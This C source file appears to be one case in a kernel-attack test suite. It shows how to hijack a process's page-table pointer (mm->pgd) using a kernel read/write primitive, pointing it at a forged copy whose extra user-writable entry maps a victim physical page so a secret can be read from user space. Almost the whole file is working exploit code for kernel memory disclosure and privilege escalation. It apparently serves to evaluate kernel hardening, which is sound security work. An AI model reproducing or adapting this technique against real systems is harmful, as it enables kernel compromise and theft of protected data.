// SPDX-License-Identifier: GPL-2.0-only
/*
 * No page table is changed here, but the pointer to one: mm->pgd is made to
 * point at a copy in ordinary memory, with one entry more. Out of scope as
 * long as nothing checks what is loaded into CR3.
 */
#include <stdio.h>
#include <sched.h>
#include <unistd.h>

#include "attack.h"
#include "list.h"

#define MM_SIZE		1024	/* where in mm_struct the pointer may be */
#define USER_PART	0x32
#define USER_ENTRY_5	1	/* with five levels an entry covers 256 TiB */

static int to_child[2], to_parent[2];

/* Another address space on this CPU, to be switched to and back. */
static void start_other_mm(void)
{
	cpu_set_t cpus;
	char byte;

	CPU_ZERO(&cpus);
	CPU_SET(0, &cpus);
	sched_setaffinity(0, sizeof(cpus), &cpus);
	if (pipe(to_child) || pipe(to_parent) || fork())
		return;
	close(to_child[1]);
	while (read(to_child[0], &byte, 1) == 1)
		if (write(to_parent[1], &byte, 1) != 1)
			break;
	_exit(0);
}

static bool switch_mm(void)
{
	char byte = 0;

	return write(to_child[1], &byte, 1) == 1 && read(to_parent[0], &byte, 1) == 1;
}

static uint64_t find_pgd_pointer(const struct task *task)
{
	uint64_t addr;

	for (addr = task->mm; addr < task->mm + MM_SIZE; addr += sizeof(addr))
		if (kread64(addr) == task->pgd)
			return addr;
	return 0;
}

/* Both halves: with page-table isolation the second one is what users get. */
static uint64_t copy_pgd(uint64_t pgd, int index, uint64_t entry)
{
	bool isolated = !(pgd & PAGE_SIZE);
	char half[PAGE_SIZE];
	uint64_t copy;
	int i;

	if (corrupt_command("alloc order=1"))
		return 0;
	copy = corrupt_answer("address");
	for (i = 0; i < 1 + isolated; i++) {
		kread(pgd + i * PAGE_SIZE, half, PAGE_SIZE);
		((uint64_t *)half)[index] = entry;
		kwrite(copy + i * PAGE_SIZE, half, PAGE_SIZE);
	}
	return copy;
}

enum outcome mm_pgd_pointer(void)
{
	int index = top_level() == LEVEL_PGD ? USER_ENTRY_5 : user_room(USER_PART) / top_level_size();
	uint64_t phys = victim_phys(), pointer, copy;
	struct task task;
	char text[64] = "";
	int err;

	start_other_mm();
	if (ktask(0, &task))
		return broken("no mm found");
	pointer = find_pgd_pointer(&task);
	copy = copy_pgd(task.pgd, index, forge_tables((phys & ~(PAGE_SIZE - 1)) | PTE_USER_RW));
	if (!pointer || !copy)
		return broken("mm->pgd not found");

	err = kwrite64(pointer, copy);
	if (!err && switch_mm())
		snprintf(text, sizeof(text), "%s", (char *)(index * top_level_size()));
	if (!err)
		kwrite64(pointer, task.pgd);
	switch_mm();
	return judge_secret(text, err);
}
